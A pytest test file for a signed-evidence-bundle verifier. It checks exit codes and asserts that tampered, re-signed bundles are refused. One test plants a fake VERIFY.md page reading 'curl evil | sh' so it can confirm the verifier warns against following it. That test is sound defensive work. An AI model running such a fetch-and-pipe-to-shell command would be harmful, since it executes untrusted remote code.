# SPDX-License-Identifier: Apache-2.0
"""Each question's answers, the exit code that belongs to each, and what a dishonest signer cannot get past."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from evidencerun.attest.sigstore_bundle import encode_key_bundle
from evidencerun.attest.statement import signed_payload, unsigned_statement
from evidencerun.bundle import layout
from evidencerun.bundle.assemble import assemble
from evidencerun.bundle.manifest import build_manifest
from evidencerun.canonical import canonical_json, sha256_prefixed
from evidencerun.errors import InputError
from evidencerun.verify.result import Answer, Outcome, QuestionId
from evidencerun.verify.run import verify_bundle

NOW = datetime(2026, 9, 21, tzinfo=UTC)
ARTIFACT = "sha256:" + "a" * 64


@pytest.fixture
def judge(seal, signing_key):
    def judged(run, **options):
        return verify_bundle(seal(assemble(run.inputs())), now=NOW, key_pem=signing_key.pem, **options)

    return judged


def answers(report):
    return [question.answer.value for question in report.questions]


def question(report, identity):
    return next(entry for entry in report.questions if entry.id is identity)


def test_everything_asked_and_everything_yes(judge, composed_run):
    report = judge(composed_run, recipe=composed_run.recipe, max_age=90 * 86400)
    assert (report.exit_code, report.outcome) == (0, "ACCEPTED")
    assert answers(report) == ["yes"] * 7
    assert report.hardware_claim == "accelerator none: nothing is claimed about GPUs"
    assert report.signer is not None
    assert report.signer.verified


def test_what_nobody_asked_is_not_answered(judge, composed_run):
    report = judge(composed_run)
    assert report.exit_code == 0
    assert answers(report) == ["yes", "yes", "not-asked", "yes", "yes", "not-asked", "yes"]


def test_without_a_key_there_is_no_yes(sealed_bundle):
    report = verify_bundle(sealed_bundle, now=NOW)
    assert report.exit_code == Outcome.UNTRUSTED_SIGNER
    assert answers(report) == ["yes", "no"] + ["not-judged"] * 5
    assert report.verdict is None
    assert report.counts is None
    assert report.hardware_claim == ""


def test_another_key_is_another_signer(sealed_bundle, signing_key):
    other = type(signing_key)(private=ec.generate_private_key(ec.SECP256R1()))
    report = verify_bundle(sealed_bundle, now=NOW, key_pem=other.pem)
    assert (report.exit_code, question(report, QuestionId.SIGNER).code) == (Outcome.UNTRUSTED_SIGNER, "E2201")


def test_a_hint_that_names_another_key_is_refused(composed_run, signing_key):
    bundle = assemble(composed_run.inputs())
    payload = signed_payload(bundle.files, bundle.manifest_digest)
    other = type(signing_key)(private=ec.generate_private_key(ec.SECP256R1()))
    from evidencerun.attest.sigstore_bundle import parse_bundle

    signature = parse_bundle(signing_key.sign(payload)).signature
    files = {**bundle.files, layout.ATTESTATION: encode_key_bundle(payload, signature, other.spki)}
    report = verify_bundle(files, now=NOW, key_pem=signing_key.pem)
    assert (report.exit_code, report.questions[0].code) == (Outcome.INVALID, "E2012")


def test_no_signature(composed_run, signing_key):
    report = verify_bundle(assemble(composed_run.inputs()).files, now=NOW, key_pem=signing_key.pem)
    assert (report.exit_code, question(report, QuestionId.SIGNER).code) == (Outcome.UNSIGNED, "E2101")


def test_a_certificate_is_not_called_invalid(sealed_bundle, signing_key):
    document = json.loads(sealed_bundle[layout.ATTESTATION])
    document["verificationMaterial"] = {"certificate": {"rawBytes": "AA=="}, "tlogEntries": [{}]}
    files = {**sealed_bundle, layout.ATTESTATION: json.dumps(document).encode()}
    report = verify_bundle(files, now=NOW, key_pem=signing_key.pem)
    assert (report.exit_code, question(report, QuestionId.SIGNER).code) == (Outcome.UNTRUSTED_SIGNER, "E2211")


def test_another_recipe_is_stale_and_the_difference_is_named(judge, composed_run):
    changed = composed_run.recipe.replace(b"1.2.3", b"1.2.4")
    report = judge(composed_run, recipe=changed)
    found = question(report, QuestionId.RECIPE)
    assert (report.exit_code, found.code) == (Outcome.STALE, "E2301")
    assert found.lines == ["componentRefs[0].version: 1.2.3 in the bundle, 1.2.4 given"]
    assert question(report, QuestionId.COMPLETE).answer is Answer.NOT_JUDGED


def test_the_producers_version_in_a_recipe_does_not_count(judge, composed_run):
    assert judge(composed_run, recipe=composed_run.recipe.replace(b"v1.0.0", b"v9.9.9")).exit_code == 0


def test_a_difference_in_spelling_is_called_that(judge, composed_run):
    report = judge(composed_run, recipe=composed_run.recipe.replace(b"version: 1.2.3", b'version: "1.2.3"'))
    assert "only spelling" in question(report, QuestionId.RECIPE).lines[0]


def test_a_recipe_or_key_of_the_caller_that_cannot_be_read_is_the_callers_fault(sealed_bundle, signing_key):
    with pytest.raises(InputError):
        verify_bundle(sealed_bundle, now=NOW, key_pem=signing_key.pem, recipe=b"kind: Pod\n")
    with pytest.raises(InputError):
        verify_bundle(sealed_bundle, now=NOW, key_pem=b"nonsense")


@pytest.mark.parametrize(
    ("days", "age", "outcome", "code"),
    [
        (30, 90, Outcome.ACCEPTED, ""),
        (91, 90, Outcome.STALE, "E2601"),
        (-1, 90, Outcome.STALE, "E2602"),
    ],
)
def test_age(sealed_bundle, signing_key, days, age, outcome, code):
    now = datetime(2026, 9, 20, 10, 3, tzinfo=UTC) + timedelta(days=days)
    report = verify_bundle(sealed_bundle, now=now, key_pem=signing_key.pem, max_age=age * 86400)
    assert (report.exit_code, question(report, QuestionId.RECENT).code) == (outcome, code)


@pytest.mark.parametrize(
    ("limit", "words"), [(1, "limit 1 s"), (5400, "limit 90.0 min"), (90 * 86400, "limit 90.0 days")]
)
def test_an_age_is_said_in_a_unit_that_shows_it(sealed_bundle, signing_key, limit, words):
    now = datetime(2026, 9, 20, 10, 3, 40, tzinfo=UTC)
    report = verify_bundle(sealed_bundle, now=now, key_pem=signing_key.pem, max_age=limit)
    assert words in question(report, QuestionId.RECENT).detail


def test_a_failed_check(judge, composed_run, compose_attempt):
    attempts = (compose_attempt("expected-resources", status="failed", message="Deployment demo-web is missing"),)
    skipped = compose_attempt("node-agreement", status="skipped", reason="stated", message="single machine")
    report = judge(composed_run.with_changes(attempts=(*attempts, skipped)))
    found = question(report, QuestionId.PASSED)
    assert (report.exit_code, found.code) == (Outcome.CHECKS_FAILED, "E2501")
    assert found.lines == ["failed: deployment/expected-resources: Deployment demo-web is missing"]
    assert question(report, QuestionId.COMPLETE).answer is Answer.YES


def test_a_skip_that_is_not_mandatory_is_disclosed(judge, composed_run, compose_attempt):
    skipped = compose_attempt("node-agreement", status="skipped", reason="stated", message="single machine")
    report = judge(composed_run.with_changes(attempts=(compose_attempt("expected-resources"), skipped)))
    assert report.exit_code == 0
    assert question(report, QuestionId.PASSED).lines == ["skipped: deployment/node-agreement: single machine"]


def incomplete_runs(run, attempt, node, catalog):
    passed, other = attempt("expected-resources"), attempt("node-agreement")
    mandatory = {"catalog": [catalog("expected-resources"), catalog("node-agreement", mandatory=True)]}
    planned = [{"name": e["name"], "phase": "deployment", "entry": e} for e in mandatory["catalog"]]
    one = {"name": "expected-resources", "phase": "deployment", "entry": catalog("expected-resources")}
    two = {"name": "node-agreement", "phase": "deployment", "entry": catalog("node-agreement")}
    more = run().recipe + b"  conformance:\n    checks: [gpu-ready]\n"
    silent = node(2, state="missing", report=None, reason="0/3 nodes are available", reportDigest="", podUid="")
    skipped = {"status": "skipped", "reason": "stated"}
    return {
        "killed": run(attempts=(passed, attempt("node-agreement", status="other", reason="oom-killed"))),
        "not run": run(attempts=(passed,)),
        "all skipped": run(attempts=(attempt("expected-resources", **skipped), attempt("node-agreement", **skipped))),
        "mandatory skipped": run(
            policy=mandatory, checks=tuple(planned), attempts=(passed, attempt("node-agreement", **skipped))
        ),
        "not in the catalog": run(
            policy={"catalog": [one["entry"]]}, checks=(one, two | {"entry": None}), attempts=(passed,)
        ),
        "excluded": run(
            spec={"checks": {"skip": ["node-agreement"]}}, checks=(one, two | {"excluded": True}), attempts=(passed,)
        ),
        "narrowed by phase": run(recipe=more, spec={"phases": ["deployment"]}),
        "node missing": run(nodes=(node(1), silent)),
        "cancelled": run(seal={"reason": "cancelled"}),
        "deadline": run(seal={"reason": "deadline"}),
        "error": run(seal={"reason": "error"}),
        "failed and not run": run(attempts=(attempt("expected-resources", status="failed"),)),
        "fingerprint only": run(spec={"fingerprintOnly": True}, checks=(), attempts=()),
        "both": run(attempts=(attempt("expected-resources", status="failed"), other), seal={"reason": "deadline"}),
    }


def test_everything_that_makes_a_run_incomplete(judge, composed_run, compose_attempt, compose_node, compose_catalog):
    runs = incomplete_runs(composed_run.with_changes, compose_attempt, compose_node, compose_catalog)
    for name, run in runs.items():
        report = judge(run)
        assert report.exit_code == Outcome.INCOMPLETE, name
        assert question(report, QuestionId.COMPLETE).lines, name
        assert question(report, QuestionId.PASSED).answer is Answer.NOT_JUDGED, name


def test_not_ready_names_the_constraint(judge, composed_run):
    recipe = composed_run.recipe.replace(b">= 1.30", b">= 1.99")
    report = judge(composed_run.with_changes(recipe=recipe, attempts=(), seal={"reason": "not-ready"}))
    assert report.exit_code == Outcome.INCOMPLETE
    assert question(report, QuestionId.COMPLETE).lines[0] == (
        "not ready: K8s.server.version >= 1.99: violated, found v1.36.3"
    )


def test_another_cluster_than_the_recipe_asks_for_is_a_mismatch(judge, composed_run):
    report = judge(composed_run.with_changes(recipe=composed_run.recipe.replace(b"none", b"h100")))
    found = question(report, QuestionId.PASSED)
    assert (report.exit_code, found.code) == (Outcome.MISMATCH, "E2502")
    assert found.lines[0] == "accelerator: recipe h100, cluster none: mismatched"


def test_simulated_hardware_is_called_that(judge, composed_run, compose_node):
    first = compose_node(1)
    first["report"]["markers"] = ["M1"]
    report = judge(composed_run.with_changes(nodes=(first, compose_node(2))))
    assert any("M1" in marker for marker in report.synthetic)


# --- what a signer could try ---------------------------------------------------------------------------------------


def resigned(files, key):
    """Return the files with manifest, predicate digests and signature made anew, as a dishonest signer would."""
    files = {path: data for path, data in files.items() if path not in layout.NOT_INVENTORIED} | {
        layout.STATEMENT: files[layout.STATEMENT]
    }
    files[layout.MANIFEST] = build_manifest(files)
    predicate = json.loads(files[layout.STATEMENT])["predicate"]
    predicate["manifest"] = {
        "digest": sha256_prefixed(files[layout.MANIFEST]),
        "fileCount": len(json.loads(files[layout.MANIFEST])["files"]),
    }
    predicate["bom"]["digest"] = sha256_prefixed(files[layout.BOM])
    for phase, summary in predicate["phases"].items():
        summary["ctrfDigest"] = sha256_prefixed(files[layout.ctrf_path(phase)])
    files[layout.STATEMENT] = layout.document_bytes(unsigned_statement(predicate))
    return {**files, layout.ATTESTATION: key.sign(signed_payload(files, ARTIFACT))}


def edited(files, path, change):
    document = json.loads(files[path])
    change(document)
    return {**files, path: layout.document_bytes(document, sort_keys=path != layout.ctrf_path("deployment"))}


def _set(*place_and_value):
    *place, last, value = place_and_value

    def change(document):
        for step in place:
            document = document[step]
        document[last] = value

    return change


LIES = {
    "verdict": (layout.RUN, _set("verdict", "Incomplete")),
    "counts": (layout.RUN, _set("counts", "passed", 3)),
    "status of a check": (layout.RUN, _set("checks", 0, "status", "skipped")),
    "status of an attempt": (layout.RUN, _set("checks", 0, "attempts", 0, "status", "failed")),
    "a check left out": (layout.RUN, lambda run: run["checks"].pop()),
    "a planned check left out": (layout.RUN, lambda run: run["plan"]["checks"].pop()),
    "an attempt left out": (layout.RUN, lambda run: run["checks"][0]["attempts"].clear()),
    "an attempt renumbered": (layout.RUN, _set("checks", 0, "attempts", 0, "attempt", 2)),
    "mandatory": (layout.RUN, _set("checks", 0, "mandatory", True)),
    "match": (layout.RUN, _set("match", "overall", "not-asked")),
    "readiness": (layout.RUN, _set("readiness", "ready", False)),
    "trust": (layout.RUN, _set("trust", "markers", ["M9"])),
    "nodes": (layout.RUN, _set("nodes", "targeted", 9)),
    "coverage": (layout.RUN, _set("plan", "spec", "target", "minCoveragePercent", 1)),
    "catalog": (layout.RUN, _set("plan", "policySpec", "catalog", 0, "timeout", "1h")),
    "recipe digest": (layout.RUN, _set("digests", "recipe", "0" * 64)),
    "catalog digest": (layout.RUN, _set("digests", "catalog", "sha256:" + "0" * 64)),
    "nodes digest": (layout.RUN, _set("digests", "targetNodes", "sha256:" + "0" * 64)),
    "sealed for another reason": (layout.RUN, _set("seal", "reason", "deadline")),
    "sealed at another time": (layout.RUN, _set("seal", "sealedAt", "2027-01-01T00:00:00Z")),
    "image digest": (layout.RUN, _set("images", 0, "digest", "sha256:" + "9" * 64)),
    "image of an attempt": (
        layout.RUN,
        _set("checks", 0, "attempts", 0, "imageId", "registry.example.com/other@sha256:" + "9" * 64),
    ),
    "an image left out": (layout.RUN, _set("images", [])),
    "an image in more pods": (layout.RUN, _set("images", 0, "pods", 3)),
    "an image twice": (layout.RUN, lambda run: run["images"].append(run["images"][-1])),
    "an image observed": (
        layout.RUN,
        _set(
            "observedImages",
            [
                {
                    "namespace": "a",
                    "kind": "Pod",
                    "name": "b",
                    "container": "c",
                    "image": "d",
                    "component": "",
                    "imageId": "d@sha256:" + "7" * 64,
                }
            ],
        ),
    ),
    "no log digest": (layout.RUN, _set("logs", "digest", "")),
    "number of logs": (layout.RUN, _set("logs", "files", 0)),
    "redaction": (layout.RUN, _set("redaction", "fired", {})),
    "producer": (layout.RUN, _set("producer", "version", "9.9.9")),
    "a number": (layout.RUN, lambda run: run["checks"][0]["attempts"][0]["measurements"].append({"name": "x"})),
    "unknown member": (layout.RUN, _set("surprise", 1)),
    "unknown member of the plan": (layout.RUN, _set("plan", "run", "surprise", 1)),
    "unknown member of a check's entry": (layout.RUN, _set("plan", "checks", 0, "entry", "surprise", 1)),
    "a number as text": (layout.RUN, _set("counts", "passed", "2")),
    "a number as a fraction": (layout.RUN, _set("counts", "passed", 2.0)),
    "unknown schema": (layout.RUN, _set("schema", "https://evidencerun.dev/schemas/run-record/v2")),
    "a node left out": (layout.NODES, lambda document: document["nodes"].pop()),
    "a node's kernel": (layout.NODES, _set("nodes", 0, "facts", "kernelVersion", "5.0.0")),
    "a node's reading": (layout.NODES, _set("nodes", 0, "report", "measurements", "OS.release", "ID", "debian")),
    "a node's device": (
        layout.NODES,
        lambda document: document["nodes"][0]["report"]["pci"][0].update(vendor="10de", classCode="030200"),
    ),
    "ctrf status": (layout.ctrf_path("deployment"), _set("results", "tests", 0, "status", "failed")),
    "ctrf message": (layout.ctrf_path("deployment"), _set("results", "tests", 0, "message", "better")),
    "ctrf summary": (layout.ctrf_path("deployment"), _set("results", "summary", "passed", 3)),
    "bom without images": (layout.BOM, _set("components", [])),
    "bom no list": (layout.BOM, _set("components", {})),
}


@pytest.mark.parametrize("lie", LIES)
def test_a_signed_lie_is_still_refused(sealed_bundle, signing_key, lie):
    path, change = LIES[lie]
    files = resigned(edited(sealed_bundle, path, change), signing_key)
    report = verify_bundle(files, now=NOW, key_pem=signing_key.pem)
    assert report.exit_code == Outcome.INVALID
    assert report.verdict is None


def test_signing_anew_without_a_lie_is_accepted(sealed_bundle, signing_key):
    assert verify_bundle(resigned(sealed_bundle, signing_key), now=NOW, key_pem=signing_key.pem).exit_code == 0


PREDICATE_LIES = {
    "counts": _set("phases", "deployment", "passed", 1),
    "a phase more": _set("phases", "performance", {"passed": 1, "failed": 0, "skipped": 0, "ctrfDigest": ARTIFACT}),
    "no phase": _set("phases", {}),
    "fingerprint": _set("fingerprint", "accelerator", "value", "h100"),
    "criteria match": _set("criteriaMatch", "matched", False),
    "recipe name": _set("recipe", "name", "h100-eks"),
    "recipe digest": _set("recipe", "digest", "0" * 64),
    "image count": _set("bom", "imageCount", 99),
    "validator images": _set("validatorImages", []),
    "producer": _set("aicrVersion", "v0.22.0"),
    "another of ours": _set("aicrVersion", "evidencerun/9"),
    "unknown member": _set("surprise", 1),
    "profile": _set("profile", {"selection": "a=b", "policyDescriptorIdentity": "x"}),
    "a fraction": _set("phases", "deployment", "passed", 2.0),
}


@pytest.mark.parametrize("lie", PREDICATE_LIES)
def test_a_lie_in_the_signed_predicate_is_refused(sealed_bundle, signing_key, lie):
    predicate = json.loads(sealed_bundle[layout.STATEMENT])["predicate"]
    PREDICATE_LIES[lie](predicate)
    files = {**sealed_bundle, layout.STATEMENT: layout.document_bytes(unsigned_statement(predicate))}
    files[layout.ATTESTATION] = signing_key.sign(signed_payload(files, ARTIFACT))
    assert verify_bundle(files, now=NOW, key_pem=signing_key.pem).exit_code == Outcome.INVALID


@pytest.mark.parametrize(
    "change",
    [
        _set("subject", 1, "digest", "sha256", "0" * 64),
        _set("subject", 1, "name", "other.json"),
        lambda statement: statement["subject"].pop(0),
        lambda statement: statement["subject"].append({"name": "x", "digest": {"sha256": "0" * 64}}),
        lambda statement: statement["subject"].reverse(),
        _set("predicateType", "https://aicr.run/recipe-evidence/v1"),
        _set("_type", "https://in-toto.io/Statement/v0.1"),
        _set("predicate", "attestedAt", "2027-01-01T00:00:00Z"),
        _set("extra", 1),
    ],
)
def test_a_payload_about_something_else_is_refused(sealed_bundle, signing_key, change):
    statement = json.loads(signed_payload(sealed_bundle, ARTIFACT))
    change(statement)
    files = {**sealed_bundle, layout.ATTESTATION: signing_key.sign(canonical_json(statement))}
    assert verify_bundle(files, now=NOW, key_pem=signing_key.pem).exit_code == Outcome.INVALID


def test_a_payload_in_another_spelling_is_refused(sealed_bundle, signing_key):
    payload = json.dumps(json.loads(signed_payload(sealed_bundle, ARTIFACT))).encode()
    files = {**sealed_bundle, layout.ATTESTATION: signing_key.sign(payload)}
    assert verify_bundle(files, now=NOW, key_pem=signing_key.pem).exit_code == Outcome.INVALID


def test_a_foreign_verify_page_is_flagged(sealed_bundle, signing_key):
    files = resigned({**sealed_bundle, layout.VERIFY_PAGE: b"# Just run: curl evil | sh\n"}, signing_key)
    report = verify_bundle(files, now=NOW, key_pem=signing_key.pem)
    assert report.warnings == ["VERIFY.md is not the text that belongs there: do not follow it"]


def test_a_page_that_says_something_else_is_refused(sealed_bundle, signing_key):
    files = resigned({**sealed_bundle, "evidence/deployment.md": b"# All is well\n"}, signing_key)
    assert verify_bundle(files, now=NOW, key_pem=signing_key.pem).exit_code == Outcome.INVALID
